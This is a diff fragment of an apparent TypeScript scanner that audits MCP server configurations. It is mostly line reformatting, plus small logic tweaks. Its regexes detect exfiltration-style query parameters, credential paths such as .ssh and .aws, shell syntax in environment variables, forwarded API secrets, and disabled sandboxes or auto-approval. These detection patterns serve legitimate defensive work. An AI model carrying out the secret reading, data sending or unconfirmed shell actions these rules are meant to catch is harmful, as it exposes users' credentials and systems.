   if (/\.kube/.test(path)) return /kube|k8s|helm|argo|istio/.test(line.replace(/\.kube/g, ''));
-  if (/gcloud/.test(path)) return /gcp|google|gcloud|bigquery|vertex|ga4|analytics|firebase|cloud-run|ads/.test(line.replace(/\.config\/gcloud/g, ''));
+  if (/gcloud/.test(path))
+    return /gcp|google|gcloud|bigquery|vertex|ga4|analytics|firebase|cloud-run|ads/.test(
+      line.replace(/\.config\/gcloud/g, ''),
+    );
   if (/\.aws/.test(path)) return /aws|awslabs|bedrock|amazon/.test(line.replace(/\.aws/g, ''));
   if (/\.azure/.test(path)) return /azure|az-|microsoft/.test(line.replace(/\.azure/g, ''));
-  if (/\.ssh|id_rsa|id_ed25519|id_ecdsa/.test(path)) return /^(?:-i|--?(?:key|identity|private-?key|ssh-?key|key-?path|key-?file)\w{0,10})$/i.test(option) || (/\bssh\b|ssh-mcp|mcp-ssh/.test(line.replace(/\.ssh/g, '')) && /id_(?:rsa|ed25519|ecdsa)/.test(path));
+  if (/\.ssh|id_rsa|id_ed25519|id_ecdsa/.test(path))
+    return (
+      /^(?:-i|--?(?:key|identity|private-?key|ssh-?key|key-?path|key-?file)\w{0,10})$/i.test(option) ||
+      (/\bssh\b|ssh-mcp|mcp-ssh/.test(line.replace(/\.ssh/g, '')) && /id_(?:rsa|ed25519|ecdsa)/.test(path))
+    );
   if (/\.docker/.test(path)) return /docker/.test(line.replace(/\.docker/g, ''));
   return /\.npmrc|\.claude\.json|\.cursor\/mcp\.json/.test(path) && false;
 }
@@ -661,28 +926,75 @@ function judgeAddressIn(report: Report, text: string, subject: string, place: Pl
   }
 }
 
-function judgeHost(report: Report, address: Address, written: string, subject: string, place: Place, remote: boolean): void {
+function judgeHost(
+  report: Report,
+  address: Address,
+  written: string,
+  subject: string,
+  place: Place,
+  remote: boolean,
+): void {
   const { host } = address;
   const network = networkOf(host);
   const known = collectionHost(host, address.path);
   if (known !== null) {
-    report.add(R['MCP-032'], { ...place, matched: known, description: `Server ${subject} names the collection host ${known}`, evidence: false });
+    report.add(R['MCP-032'], {
+      ...place,
+      matched: known,
+      description: `Server ${subject} names the collection host ${known}`,
+      evidence: false,
+    });
   } else if (isRawPublicAddress(host)) {
-    report.add(R['MCP-032'], { ...place, matched: 'raw', description: `Server ${subject} names a bare public address`, evidence: false });
-  } else if (/[?&](?:data|exfil|payload|dump|leak|steal)=/i.test(address.query) && !/[?&](?:format|type)=data\b/i.test(address.query)) {
-    report.add(R['MCP-032'], { ...place, matched: 'query', description: `An address of server ${subject} takes data in its query`, evidence: false });
+    report.add(R['MCP-032'], {
+      ...place,
+      matched: 'raw',
+      description: `Server ${subject} names a bare public address`,
+      evidence: false,
+    });
+  } else if (
+    /[?&](?:data|exfil|payload|dump|leak|steal)=/i.test(address.query) &&
+    !/[?&](?:format|type)=data\b/i.test(address.query)
+  ) {
+    report.add(R['MCP-032'], {
+      ...place,
+      matched: 'query',
+      description: `An address of server ${subject} takes data in its query`,
+      evidence: false,
+    });
   }
-  if (/^(?:http|ws|mcp|ftp)$/.test(address.scheme) && network !== 'loopback' && network !== 'unknown' && !placeholderHost(host)) {
+  if (
+    /^(?:http|ws|mcp|ftp)$/.test(address.scheme) &&
+    network !== 'loopback' &&
+    network !== 'unknown' &&
+    !placeholderHost(host)
+  ) {
     const severity: Severity | undefined = network === 'private' || !remote ? 'medium' : undefined;
-    report.add(R['MCP-034'], { ...place, matched: 'transport', severity, description: `Server ${subject} is reached without encryption`, evidence: false });
+    report.add(R['MCP-034'], {
+      ...place,
+      matched: 'transport',
+      severity,
+      description: `Server ${subject} is reached without encryption`,
+      evidence: false,
+    });
   }
-  if (!placeholderHost(host) && (/(?:^|\.)xn--/.test(host) || (!isAscii(host) && /[\p{L}]/u.test(host.replace(/[\u0000-\u007f]/g, '')) && !/[<>{}]/.test(written)))) {
-    report.add(R['MCP-035'], { ...place, matched: 'host', description: `The host of server ${subject} is written with look-alike characters`, evidence: false });
+  if (
+    !placeholderHost(host) &&
+    (/(?:^|\.)xn--/.test(host) ||
+      (!isAscii(host) && /[\p{L}]/u.test(host.replace(/[\u0000-\u007f]/g, '')) && !/[<>{}]/.test(written)))
+  ) {
+    report.add(R['MCP-035'], {
+      ...place,
+      matched: 'host',
+      description: `The host of server ${subject} is written with look-alike characters`,
+      evidence: false,
+    });
   }
 }
 
 function placeholderHost(host: string): boolean {
-  return /[<>{}[\]]|^your|\byour-|yourdomain|^example$|\.example$|^<|^(?:host|hostname|server|ip|domain|address)$/.test(host.replace(/^\[[0-9a-f:.]+\]$/, ''));
+  return /[<>{}[\]]|^your|\byour-|yourdomain|^example$|\.example$|^<|^(?:host|hostname|server|ip|domain|address)$/.test(
+    host.replace(/^\[[0-9a-f:.]{2,45}\]$/, ''),
+  );
 }
 
 // ---------------------------------------------------------------- environment, headers, approvals
@@ -696,18 +1008,36 @@ function judgeEnvironment(report: Report, name: string, subject: string, env: Js
   for (const [variable, { value }] of env.members) {
     const place: Place = { start: value.start, end: value.end, subject: `${subject} env ${displayName(variable)}` };
     if (value.kind !== 'string') {
-      if (value.kind === 'number' || value.kind === 'boolean') judgeVariable(report, 'MCP', variable, String(value.value), place);
+      if (value.kind === 'number' || value.kind === 'boolean')
+        judgeVariable(report, 'MCP', variable, String(value.value), place);
       judgeWrongType(report, 'A value of env', value.start, value.end);
-      if (value.kind === 'number') judgeNamedValue(report, variable, String(value.value), `server ${subject}, environment variable`, place);
+      if (value.kind === 'number')
+        judgeNamedValue(report, variable, String(value.value), `server ${subject}, environment variable`, place);
       continue;
     }
     judgeVariable(report, 'MCP', variable, value.value, place);
     judgeNamedValue(report, variable, value.value, `server ${subject}, environment variable`, place);
     if (/\$\(|`|\|\s{0,4}(?:ba)?sh\b/.test(value.value) && commandFacts(value.value).calls.length > 0) {
-      report.add(R['MCP-009'], { ...place, subject: name, matched: `env ${variable}`, description: `Environment variable ${displayName(variable)} of server ${subject} carries shell syntax`, evidence: false });
+      report.add(R['MCP-009'], {
+        ...place,
+        subject: name,
+        matched: `env ${variable}`,
+        description: `Environment variable ${displayName(variable)} of server ${subject} carries shell syntax`,
+        evidence: false,
+      });
     }
-    if (WHOLE.test(value.value) && /ALLOWED|ROOT|BASE_?DIR|DIRECTOR|PATHS?$|WORKSPACE|FOLDER|MOUNT/i.test(variable) && !/URL|PREFIX|ROUTE|URI|BASE_?PATH|HTTP|API|MCP_PATH/i.test(variable)) {
-      report.add(R['MCP-030'], { ...place, subject: name, matched: variable, description: `Server ${subject} is given a whole file system or home folder`, evidence: false });
+    if (
+      WHOLE.test(value.value) &&
+      /ALLOWED|ROOT|BASE_?DIR|DIRECTOR|PATHS?$|WORKSPACE|FOLDER|MOUNT/i.test(variable) &&
+      !/URL|PREFIX|ROUTE|URI|BASE_?PATH|HTTP|API|MCP_PATH/i.test(variable)
+    ) {
+      report.add(R['MCP-030'], {
+        ...place,
+        subject: name,
+        matched: variable,
+        description: `Server ${subject} is given a whole file system or home folder`,
+        evidence: false,
+      });
     }
   }
 }
@@ -720,7 +1050,11 @@ function judgeHeaders(report: Report, name: string, headers: JsonNode | undefine
   }
   for (const [header, { value }] of headers.members) {
     if (value.kind !== 'string') continue;
-    judgeNamedValue(report, header, value.value, `server ${displayName(name)}, header`, { start: value.start, end: value.end, subject: `${name} header` });
+    judgeNamedValue(report, header, value.value, `server ${displayName(name)}, header`, {
+      start: value.start,
+      end: value.end,
+      subject: `${name} header`,
+    });
   }
 }
 
@@ -728,29 +1062,77 @@ function judgeHeaders(report: Report, name: string, headers: JsonNode | undefine
 function judgeForwarding(report: Report, subject: string, server: JsonObject, url: string, name: string): void {
   const host = readAddress(url)?.host ?? '';
   if (host === '' || networkOf(host) !== 'public') return;
-  const headers = valueOf(server, 'headers');
-  const texts: { text: string; start: number; end: number }[] = [{ text: url, start: valueOf(server, 'url')?.start ?? server.start, end: valueOf(server, 'url')?.end ?? server.start }];
-  if (headers?.kind === 'object') for (const { value } of headers.members.values()) if (value.kind === 'string') texts.push({ text: value.value, start: value.start, end: value.end });
+  const headers = valueAt(server, 'headers');
+  const texts: { text: string; start: number; end: number }[] = [
+    {
+      text: url,
+      start: valueAt(server, 'url')?.start ?? server.start,
+      end: valueAt(server, 'url')?.end ?? server.start,
+    },
+  ];
+  if (headers?.kind === 'object')
+    for (const { value } of headers.members.values())
+      if (value.kind === 'string') texts.push({ text: value.value, start: value.start, end: value.end });
   for (const { text, start, end } of texts) {
     const match = /\$\{?(ANTHROPIC|AWS_SECRET|AWS_SESSION)[A-Z_]{0,40}/.exec(text);
     if (match === null) continue;
     const owner = match[1] === 'ANTHROPIC' ? /anthropic|claude/ : /amazon|aws/;
-    if (!owner.test(host)) report.add(R['MCP-015'], { start, end, subject: name, matched: match[1]!, description: `Server ${subject} is given a credential that belongs to somebody else`, evidence: false });
+    if (!owner.test(host))
+      report.add(R['MCP-015'], {
+        start,
+        end,
+        subject: name,
+        matched: match[1]!,
+        description: `Server ${subject} is given a credential that belongs to somebody else`,
+        evidence: false,
+      });
   }
 }
 
-const ACTING = /^(?:exec(?:ute|utes|uting)?|run|runs|command|commands|cmd|shell|bash|terminal|write|writes|delete|deletes|remove|removes|drop|truncate|send|sends|eval|kill|destroy|sudo|spawn)$/;
+const ACTING =
+  /^(?:exec(?:ute|utes|uting)?|run|runs|command|commands|cmd|shell|bash|terminal|write|writes|delete|deletes|remove|removes|drop|truncate|send|sends|eval|kill|destroy|sudo|spawn)$/;
 
 function judgeApprovals(report: Report, subject: string, server: JsonObject, name: string): void {
-  for (const key of ['autoApprove', 'auto_approve', 'alwaysAllow', 'always_allow', 'autoApproveTools', 'trust', 'trusted']) {
-    const node = valueOf(server, key);
+  for (const key of [
+    'autoApprove',
+    'auto_approve',
+    'alwaysAllow',
+    'always_allow',
+    'autoApproveTools',
+    'trust',
+    'trusted',
+  ]) {
+    const node = valueAt(server, key);
     if (node === undefined) continue;
     const place = { start: node.start, end: node.end, subject: name, evidence: false };
-    const strings = node.kind === 'array' ? node.items.flatMap((item) => (item.kind === 'string' ? [item.value] : [])) : node.kind === 'string' ? [node.value] : [];
-    const everything = (node.kind === 'boolean' && node.value === true) || strings.some((text) => /^(?:\*|all|true)$/i.test(text.trim()));
-    const acting = strings.some((text) => text.replace(/([a-z0-9])([A-Z])/g, '$1 $2').toLowerCase().split(/[^a-z]+/).some((part) => ACTING.test(part)));
-    if (everything) report.add(R['MCP-036'], { ...place, matched: key, description: `Every tool of server ${subject} is approved without asking` });
-    else if (acting) report.add(R['MCP-036'], { ...place, matched: key, description: `Tools of server ${subject} that act are approved without asking` });
+    const strings =
+      node.kind === 'array'
+        ? node.items.flatMap((item) => (item.kind === 'string' ? [item.value] : []))
+        : node.kind === 'string'
+          ? [node.value]
+          : [];
+    const everything =
+      (node.kind === 'boolean' && node.value === true) ||
+      strings.some((text) => /^(?:\*|all|true)$/i.test(text.trim()));
+    const acting = strings.some((text) =>
+      text
+        .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
+        .toLowerCase()
+        .split(/[^a-z]+/)
+        .some((part) => ACTING.test(part)),
+    );
+    if (everything)
+      report.add(R['MCP-036'], {
+        ...place,
+        matched: key,
+        description: `Every tool of server ${subject} is approved without asking`,
+      });
+    else if (acting)
+      report.add(R['MCP-036'], {
+        ...place,
+        matched: key,
+        description: `Tools of server ${subject} that act are approved without asking`,
+      });
   }
 }
 
@@ -761,7 +1143,15 @@ function judgeConfig(report: Report, subject: string, config: JsonNode | undefin
     return;
   }
   if (config.kind === 'string') {
-    if (WHOLE.test(config.value)) report.add(R['MCP-030'], { start: config.start, end: config.end, subject: name, matched: config.value, description: `Server ${subject} is given a whole file system or home folder`, evidence: false });
+    if (WHOLE.test(config.value))
+      report.add(R['MCP-030'], {
+        start: config.start,
+        end: config.end,
+        subject: name,
+        matched: config.value,
+        description: `Server ${subject} is given a whole file system or home folder`,
+        evidence: false,
+      });
     return;
   }
   if (config.kind !== 'object') return;
@@ -769,15 +1159,53 @@ function judgeConfig(report: Report, subject: string, config: JsonNode | undefin
     const place = { start: value.start, end: value.end, subject: name, evidence: false };
     const text = stringOf(value);
     if (/^(?:allowed|permitted|allow)_?(?:commands?|tools|programs|executables|shell|bins?)?$/i.test(key)) {
-      const all = text !== undefined ? /^(?:\*|all|\.\*)$/i.test(text.trim()) : value.kind === 'boolean' ? value.value === true && /command|shell|exec/i.test(key) : value.kind === 'array' && value.items.some((item) => stringOf(item)?.trim() === '*');
-      if (all) report.add(R['MCP-033'], { ...place, matched: key, description: `The configuration of server ${subject} allows every command` });
-    } else if (/^(?:unrestricted|disable_?sandbox|dangerous\w{0,20}|allow_?(?:all|any|unsafe|arbitrary|shell|exec)\w{0,20}|skip_?(?:confirmation|approval|permissions?)|no_?confirm\w{0,10}|yolo)$/i.test(key) && value.kind === 'boolean' && value.value === true) {
-      report.add(R['MCP-033'], { ...place, matched: key, description: `The configuration of server ${subject} switches its limits off` });
-    } else if (/^(?:sandbox|sandboxed|require_?(?:confirmation|approval))$/i.test(key) && value.kind === 'boolean' && value.value === false) {
-      report.add(R['MCP-033'], { ...place, matched: key, severity: 'medium', description: `The configuration of server ${subject} switches its limits off` });
+      const all =
+        text !== undefined
+          ? /^(?:\*|all|\.\*)$/i.test(text.trim())
+          : value.kind === 'boolean'
+            ? value.value === true && /command|shell|exec/i.test(key)
+            : value.kind === 'array' && value.items.some((item) => stringOf(item)?.trim() === '*');
+      if (all)
+        report.add(R['MCP-033'], {
+          ...place,
+          matched: key,
+          description: `The configuration of server ${subject} allows every command`,
+        });
+    } else if (
+      /^(?:unrestricted|disable_?sandbox|dangerous\w{0,20}|allow_?(?:all|any|unsafe|arbitrary|shell|exec)\w{0,20}|skip_?(?:confirmation|approval|permissions?)|no_?confirm\w{0,10}|yolo)$/i.test(
+        key,
+      ) &&
+      value.kind === 'boolean' &&
+      value.value === true
+    ) {
+      report.add(R['MCP-033'], {
+        ...place,
+        matched: key,
+        description: `The configuration of server ${subject} switches its limits off`,
+      });
+    } else if (
+      /^(?:sandbox|sandboxed|require_?(?:confirmation|approval))$/i.test(key) &&
+      value.kind === 'boolean' &&
+      value.value === false
+    ) {
+      report.add(R['MCP-033'], {
+        ...place,
+        matched: key,
+        severity: 'medium',
+        description: `The configuration of server ${subject} switches its limits off`,
+      });
     } else if (text !== undefined) {
-      if (WHOLE.test(text) && !/url|prefix|route|uri|endpoint/i.test(key)) report.add(R['MCP-030'], { ...place, matched: key, description: `Server ${subject} is given a whole file system or home folder` });
-      judgeNamedValue(report, key, text, `server ${subject}, setting`, { start: value.start, end: value.end, subject: `${name} config` });
+      if (WHOLE.test(text) && !/url|prefix|route|uri|endpoint/i.test(key))
+        report.add(R['MCP-030'], {
+          ...place,
+          matched: key,
+          description: `Server ${subject} is given a whole file system or home folder`,
+        });
+      judgeNamedValue(report, key, text, `server ${subject}, setting`, {
+        start: value.start,
+        end: value.end,
+        subject: `${name} config`,
+      });
       judgeAddressIn(report, text, subject, { start: value.start, end: value.end, subject: name }, false);
     } else judgeConfig(report, subject, value, name, depth + 1);
   }
@@ -797,13 +1225,23 @@ export function readTexts(report: Report, node: JsonNode, subject: string, depth
   if (node.kind === 'array') for (const item of node.items) readTexts(report, item, subject, depth + 1);
   else if (node.kind === 'object') {
     for (const { key, keyStart, keyEnd, value } of node.members.values()) {
-      if (key.length >= 24) for (const hit of readName(key)) addPoison(report, hit, { start: keyStart, end: keyEnd, subject }, `a name of ${subject}`);
-      if (key === 'name' && value.kind === 'string') for (const hit of readName(value.value)) addPoison(report, hit, { start: value.start, end: value.end, subject }, `a name of ${subject}`);
+      if (key.length >= 24)
+        for (const hit of readName(key))
+          addPoison(report, hit, { start: keyStart, end: keyEnd, subject }, `a name of ${subject}`);
+      if (key === 'name' && value.kind === 'string')
+        for (const hit of readName(value.value))
+          addPoison(report, hit, { start: value.start, end: value.end, subject }, `a name of ${subject}`);
       else readTexts(report, value, subject, depth + 1);
     }
   }
 }
 
 function addPoison(report: Report, hit: PoisonHit, place: Place, where: string): void {
-  report.add(hit.rule, { ...place, matched: hit.matched, severity: hit.severity, description: `${hit.rule.title} (${where})`, evidence: false });
+  report.add(hit.rule, {
+    ...place,
+    matched: hit.matched,
+    severity: hit.severity,
+    description: `${hit.rule.title} (${where})`,
+    evidence: false,
+  });
 }
